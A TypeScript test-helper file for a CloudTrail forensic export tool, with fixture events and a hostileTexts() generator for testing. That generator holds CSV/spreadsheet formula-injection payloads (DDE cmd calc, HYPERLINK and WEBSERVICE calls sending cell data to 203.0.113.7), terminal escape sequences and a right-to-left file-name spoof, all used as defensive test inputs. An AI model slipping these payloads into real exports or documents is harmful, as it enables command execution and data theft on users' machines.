import { createHash } from 'node:crypto'
import { parseUtc, type UtcMs } from '#shared/base/time.ts'
import type { ExportEvent, SelectionStatement } from '#shared/domain/export.ts'
import type { DocumentField, IdentifierField, TermField } from '#shared/domain/fields.ts'

export const at = (iso: string): UtcMs => {
  const time = parseUtc(iso)
  if (time === undefined) throw new Error(`bad time in a test: ${iso}`)
  return time
}
export const sha256 = (bytes: string | Uint8Array): string => createHash('sha256').update(bytes).digest('hex')

type Overrides = {
  readonly row?: number
  readonly time?: string
  readonly terms?: Partial<Record<TermField, string>>
  readonly documents?: Partial<Record<DocumentField, string>>
  readonly identifiers?: Partial<Record<IdentifierField, string>>
  readonly rawRecord?: Uint8Array | string
  readonly path?: string
  readonly tags?: readonly string[]
  readonly bookmark?: { readonly exhibit: string; readonly title: string; readonly note: string }
}

/** alice stops logging, from 203.0.113.7, unless the test says otherwise. */
export function exportEvent(overrides: Overrides = {}): ExportEvent {
  const row = overrides.row ?? 1
  const time = overrides.time ?? '2026-01-02T03:04:05Z'
  const terms: Partial<Record<TermField, string>> = {
    eventSource: 'cloudtrail.amazonaws.com',
    eventName: 'StopLogging',
    awsRegion: 'eu-west-1',
    recipientAccountId: '000123456789',
    account: '000123456789',
    sourceIPAddress: '203.0.113.7',
    userAgent: 'aws-cli/2.13',
    eventType: 'AwsApiCall',
    eventCategory: 'Management',
    eventVersion: '1.08',
    readOnly: 'false',
    managementEvent: 'true',
    access: 'ok',
    principal: 'arn:aws:iam::000123456789:user/alice',
    'userIdentity.type': 'IAMUser',
    'userIdentity.arn': 'arn:aws:iam::000123456789:user/alice',
    'userIdentity.principalId': 'AIDAEXAMPLE',
    'userIdentity.accountId': '000123456789',
    'userIdentity.accessKeyId': 'AKIAEXAMPLE',
    'userIdentity.userName': 'alice',
    ...overrides.terms,
  }
  const rawRecord =
    overrides.rawRecord ??
    JSON.stringify({
      eventTime: time,
      eventName: terms.eventName,
      readOnly: false,
      userAgent: terms.userAgent,
      eventID: `event-${row}`,
    })
  return {
    row,
    id: row,
    timeMs: at(time),
    terms,
    documents: overrides.documents ?? {},
    identifiers: { eventID: `event-${row}`, requestID: `request-${row}`, ...overrides.identifiers },
    rawRecord,
    source: { path: overrides.path ?? 'AWSLogs/000123456789/log.json.gz', sha256: sha256('source'), ordinal: row - 1 },
    recordSha256: sha256(rawRecord),
    integrity: 'proven',
    tags: overrides.tags ?? [],
    ...(overrides.bookmark === undefined ? {} : { bookmark: { ...overrides.bookmark, authors: ['A. Rossi'] } }),
    occurrences: 1,
  }
}

export const statement = (overrides: Partial<SelectionStatement> = {}): SelectionStatement => ({
  shown: 1,
  total: 10,
  queryText: 'eventName:StopLogging',
  echo: 'the event name is StopLogging',
  from: undefined,
  to: undefined,
  sort: 'eventTime',
  zone: 'Europe/Berlin',
  case: { title: 'Night visit', number: '0042' },
  tlp: 'AMBER',
  toolVersion: 'Trailcase 0.1.0',
  madeAt: at('2026-11-20T12:00:00Z'),
  examiner: 'A. Rossi',
  ...overrides,
})

export async function* stream<T>(items: Iterable<T>): AsyncGenerator<T> {
  for (const item of items) {
    await Promise.resolve()
    yield item
  }
}

export async function bytesOf(chunks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = []
  for await (const chunk of chunks) all.push(chunk)
  return Buffer.concat(all)
}
export const textOf = async (chunks: AsyncIterable<Uint8Array>): Promise<string> =>
  (await bytesOf(chunks)).toString('utf8')
/** The lines of a JSON lines export, parsed. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- tests assert the shape of what they read
export const jsonLinesOf = async (chunks: AsyncIterable<Uint8Array>): Promise<any[]> =>
  (await textOf(chunks))
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line))

/** 200 texts that spreadsheets run or terminals obey, made from what starts a formula, where, and what it does. */
export function hostileTexts(): string[] {
  const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '\uff1d', '\uff0b', '\uff0d', '\uff20']
  const acts = [
    'cmd|"/C calc"!A0',
    'HYPERLINK("http://203.0.113.7/?"&A1,"open")',
    'WEBSERVICE("http://203.0.113.7/")',
    '1+1',
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML("http://203.0.113.7","//a")',
    '2+5+cmd|" /C calc"!A0',
  ]
  const wraps = [(t: string) => t, (t: string) => `'${t}`, (t: string) => `ok;${t}`, (t: string) => `ok\n${t}`]
  const all = wraps.flatMap((wrap) => starts.flatMap((start) => acts.map((act) => wrap(start + act))))
  const others = [
    '\u001b[2J\u001b]0;owned\u0007',
    '\u009b31m',
    '\u202egpj.exe',
    'a\u200bb',
    '"quoted","cells"',
    'line\r\nline',
    '_x000D_',
    '<b>&amp;</b>',
    ']]>',
    '\u0000',
    '\ufffe\uffff',
    '\ud800',
    '\u{1f600}',
  ]
  return [...others, ...all].slice(0, 200)
}
